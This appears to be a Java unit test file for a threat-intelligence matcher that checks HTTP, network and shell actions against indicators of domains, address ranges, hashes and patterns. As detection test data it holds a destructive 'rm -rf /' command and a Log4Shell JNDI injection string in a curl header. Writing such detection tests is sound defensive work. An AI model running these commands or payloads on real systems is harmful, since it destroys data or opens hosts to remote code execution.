package dev.armor.pipeline.intel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.armor.pipeline.action.ExchangeHttp;
import dev.armor.pipeline.action.StartProcess;
import dev.armor.pipeline.action.UseNetwork;
import dev.armor.pipeline.url.IpAddress;
import dev.armor.pipeline.verdict.Decision;
import dev.armor.pipeline.verdict.Finding;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class IndicatorsTest {
  private static final Instant NOW = Instant.parse("2026-01-01T00:00:00Z");

  @ParameterizedTest
  @CsvSource({
    "bad.acme.test, HOST",
    "*.acme.test, HOST",
    "203.0.113.0/24, ADDRESS",
    "203.0.113.9, ADDRESS",
    "2001:db8::/32, ADDRESS",
    "44d88612fea8a8f36de82e1278abb02f, HASH",
    "regex:a+b, EXPRESSION",
    "rm -rf / --no-preserve-root, TEXT",
    "http://bad.acme.test/x, TEXT",
  })
  void aPatternShowsHowItIsMatched(String pattern, Indicator.Kind kind) {
    assertThat(Indicator.kindOf(pattern)).isEqualTo(kind);
  }

  @Test
  void aHostCoversWhatIsBelowItAndNothingElse() {
    Indicators set = set("bad.acme.test");
    assertThat(set.host("bad.acme.test")).hasSize(1);
    assertThat(set.host("x.y.bad.acme.test.")).hasSize(1);
    assertThat(set.host("notbad.acme.test")).isEmpty();
    assertThat(set.host("acme.test")).isEmpty();
  }

  @Test
  void aBlockCoversItsAddressesInEveryForm() {
    Indicators set = set("203.0.113.0/24", "2001:db8::/33");
    assertThat(set.address(address("203.0.113.200"))).hasSize(1);
    assertThat(set.address(address("::ffff:203.0.113.200"))).hasSize(1);
    assertThat(set.address(address("203.0.114.1"))).isEmpty();
    assertThat(set.address(address("2001:db8:7fff::1"))).hasSize(1);
    assertThat(set.address(address("2001:db8:8000::1"))).isEmpty();
  }

  @Test
  void hashesAndTextsAreFoundInAnyCase() {
    Indicators set = set("44D88612FEA8A8F36DE82E1278ABB02F", "Evil Words");
    assertThat(set.hash("44d88612fea8a8f36de82e1278abb02f")).hasSize(1);
    assertThat(set.check("some EVIL WORDS here")).hasSize(1);
    assertThat(set.check("some evilwords here")).isEmpty();
  }

  @Test
  void expressionsCountCaseAndRunWithoutBacktracking() {
    Indicators set = set("regex:(x+x+)+y", "regex:Fo[ou]bar\\d+");
    assertThat(set.check("x".repeat(200_000))).isEmpty();
    assertThat(set.check("a Foobar7")).hasSize(1);
    assertThat(set.check("a foobar7")).isEmpty();
  }

  @Test
  void twoIndicatorsOfOneTextAreBothFound() {
    Indicator first = indicator("a", "same text");
    Indicator second = indicator("b", "same text");
    assertThat(new Indicators(List.of(first, second)).check("same text")).hasSize(2);
  }

  @Test
  void everyBuiltInIndicatorIsUsable() {
    List<Indicator> all = Indicators.builtIn();
    assertThat(all).extracting(Indicator::id).doesNotHaveDuplicates();
    for (Indicator indicator : all) {
      assertThat(Indicator.fault(indicator.kind(), indicator.pattern()))
          .as(indicator.id())
          .isEmpty();
    }
  }

  @Nested
  class InForce {
    private final ThreatIntelligence intelligence = new ThreatIntelligence(NOW);

    @Test
    void anActionThatMeetsAnIndicatorIsStopped() {
      intelligence.add(indicator("op-1", "drop.acme.test"), NOW);
      List<Finding> found =
          ThreatRules.inspect(
              ExchangeHttp.of("GET", "https://a.DROP.acme.test/x"), intelligence.current());
      assertThat(found).extracting(Finding::rule).containsExactly("intel.malicious-domain");
      assertThat(found.get(0).least()).isEqualTo(Decision.REVIEW);
      assertThat(found.get(0).reason()).contains("op-1");
      assertThat(
              ThreatRules.inspect(
                  UseNetwork.connect("drop.acme.test", "192.0.2.1", 443), intelligence.current()))
          .hasSize(1);
    }

    @Test
    void aCommandWithAKnownExploitIsBlocked() {
      List<Finding> found =
          ThreatRules.inspect(
              StartProcess.shell("curl -H 'X: ${jndi:ldap://h/a}' http://a.test"),
              intelligence.current());
      assertThat(found).extracting(Finding::least).contains(Decision.BLOCK);
      assertThat(ThreatRules.inspect(StartProcess.shell("ls -l /srv"), intelligence.current()))
          .isEmpty();
    }

    @Test
    void aTextThatMatchedNothingIsMatchedByANewIndicator() {
      StartProcess command = StartProcess.shell("run quietly-named worm");
      assertThat(ThreatRules.inspect(command, intelligence.current())).isEmpty();
      assertThat(ThreatRules.inspect(command, intelligence.current())).isEmpty();

      intelligence.add(indicator("op-2", "quietly-named worm"), NOW);

      assertThat(ThreatRules.inspect(command, intelligence.current())).hasSize(1);
      assertThat(ThreatRules.inspect(command, intelligence.current())).hasSize(1);
    }

    @Test
    void whatIsRemovedOrInactiveIsNotMatched() {
      intelligence.add(indicator("op-1", "drop.acme.test"), NOW);
      assertThat(intelligence.remove("op-1", NOW)).isTrue();
      assertThat(intelligence.remove("op-1", NOW)).isFalse();
      assertThat(intelligence.current().host("drop.acme.test")).isEmpty();
    }

    @Test
    void aFaultyPatternIsRefusedWithAReason() {
      assertThatThrownBy(() -> intelligence.add(indicator("x", "regex:(a"), NOW))
          .hasMessageContaining("\"(a\" is no regular expression");
      assertThatThrownBy(() -> intelligence.add(indicator("x", "a"), NOW))
          .hasMessageContaining("found everywhere");
      assertThatThrownBy(() -> intelligence.add(indicator("x", "regex:.*"), NOW))
          .hasMessageContaining("found everywhere");
    }
  }

  static Indicator indicator(String id, String pattern) {
    return new Indicator(
        id,
        ThreatType.MALICIOUS_DOMAIN,
        Indicator.kindOf(pattern),
        pattern,
        Severity.HIGH,
        "a threat",
        "operator",
        NOW,
        true);
  }

  private static Indicators set(String... patterns) {
    return new Indicators(Arrays.stream(patterns).map(p -> indicator(p, p)).toList());
  }

  private static IpAddress address(String text) {
    IpAddress parsed = IpAddress.parse(text);
    assertThat(parsed).isNotNull();
    return parsed;
  }
}
